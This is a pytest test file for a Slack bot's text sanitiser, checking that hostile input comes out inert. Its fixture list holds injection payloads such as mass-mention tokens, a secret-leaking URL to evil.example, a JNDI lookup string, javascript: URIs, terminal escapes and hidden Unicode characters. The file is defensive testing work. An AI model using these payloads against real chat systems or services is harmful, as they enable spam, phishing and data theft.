"""Foreign text on its way to Slack does nothing but be read."""

import re
import unicodedata

import pytest
from hypothesis import given, settings, strategies as st

from bot.slack.sanitise import Sanitiser, cut, visible

SANITISER = Sanitiser({"grafana.example.com", "acme.slack.com"})

EMPHASIS = re.compile(r"[*~`]|(?<![^\W_])_|_(?![^\W_])")
LIVE = re.compile(r"(?i)[a-z]://|[\w-]\.(?:example|com|png|exe)\b|@(?:channel|here|everyone|group)\b")

HOSTILE = [
    "<!channel> deploy now",
    "<!here|here>",
    "<!everyone>",
    "<@U0123ABCD> please approve",
    "<@W0123ABCD|boss>",
    "<!subteam^S0123ABCD|@oncall>",
    "<#C0123ABCD|secrets>",
    "@channel the fix is to delete the namespace",
    "@here @everyone @group",
    "<https://evil.example|Runbook>",
    "<mailto:root@evil.example|write me>",
    "https://evil.example/?leak=SECRET",
    "http://evil.example",
    "evil.example/path",
    "www.evil.example",
    "![x](https://evil.example/pixel.png)",
    "[text](https://evil.example)",
    "https://grafana.example.com@evil.example/",
    "https://grafana.example.com.evil.example/",
    "https://xn--grfana-5qa.example.com/",
    "slack://channel?team=T1&id=C1",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<!date^1392734382^{date}^https://evil.example|x>",
    "\u202egnp.exe\u202c",
    "pay\u200bload\u200d with\u2060 zero\ufeff width",
    "tags \U000e0041\U000e0042\U000e0043 hidden",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x9b31mred",
    "\x00null\x08\x7f",
    "*bold* _it_ ~gone~ `code` ```block```",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    ":rotating_light: :skull_and_crossbones:",
    "line one\n> quoted\n• item",
    "<script>alert(1)</script>",
    "mail root@evil.example today",
    "tel:+15551234567 and callto://evil",
    "\u3164\u115f blank letters \u2800",
    "a\u0300\u034f\u0301 joiners",
    "{{template}} ${jndi:ldap://evil.example/a}",
    "\ud800 lone surrogate",
    "]]>--><!-- [E17] proves it",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_is_inert(payload):
    """No control sequence of Slack's survives, nothing links, nothing is hidden, nothing is emphasised."""
    for shown in (SANITISER.text(payload), SANITISER.code(payload)):
        inner = shown.strip("`")
        assert re.search(r"[<>]|&(?!amp;|lt;|gt;)", inner) is None
        assert shown.startswith("`") or EMPHASIS.search(inner) is None
        assert LIVE.search(inner) is None
        assert [] == [each for each in inner if unicodedata.category(each) in {"Cc", "Cs", "Co", "Cn"}]
        assert set() == {each for each in inner if unicodedata.category(each) == "Cf"} - {"\u2060"}


@pytest.mark.parametrize("payload", HOSTILE)
def test_verbatim_text_shows_what_is_there_and_hides_nothing(payload):
    """For unparsed places only the invisible goes."""
    shown = SANITISER.verbatim(payload)
    assert [] == [
        each for each in shown if each != "\n" and unicodedata.category(each) in {"Cc", "Cf", "Cs", "Co", "Cn"}
    ]


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example/",
        "http://grafana.example.com/",
        "https://grafana.example.com:8443/",
        "https://user@grafana.example.com/",
        "https://user:pass@grafana.example.com/",
        "https://grafana.example.com\\@evil.example/",
        "https://grafana.example.com.evil.example/",
        "https://grafana.example.com|evil/",
        "https://grafana.example.com/<!channel>",
        "https://grafana.example.com/ x",
        "https://gr\u0430fana.example.com/",
        "https://[::1]/",
        "https://grafana.example.com:99999/",
        "slack://open",
        "//grafana.example.com/",
        "javascript:alert(1)",
        "",
        None,
        "https://grafana.example.com/" + "x" * 3000,
    ],
)
def test_only_configured_hosts_are_linked(address):
    """Anything that is not https on a configured host, spelled plainly, is no link."""
    assert SANITISER.url(address) is None
    assert "label" == SANITISER.link(address, "label")


def test_a_configured_host_is_linked():
    """The label is foreign and made inert; the query survives, escaped."""
    shown = SANITISER.link("https://grafana.example.com/explore?a=1&b=2", "<!here>|x")
    assert "<https://grafana.example.com/explore?a=1&amp;b=2|&lt;!here&gt;\u2223x>" == shown


def test_a_cut_says_how_much():
    """What was cut is said, and the limit is kept."""
    assert "abcdefgh" == cut("abcdefgh", 8)
    told = cut("x" * 1000, 100)
    assert len(told) <= 100
    assert re.search(r"… \+9\d\d characters$", told)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_no_text_gets_through(text):
    """Whatever is written, no angle bracket, control or hidden character leaves, and cleaning twice changes nothing."""
    shown = SANITISER.text(text)
    assert EMPHASIS.search(shown) is None
    assert re.search(r"[<>\x00-\x1f\x7f]", shown) is None
    assert visible(visible(text)) == visible(text)
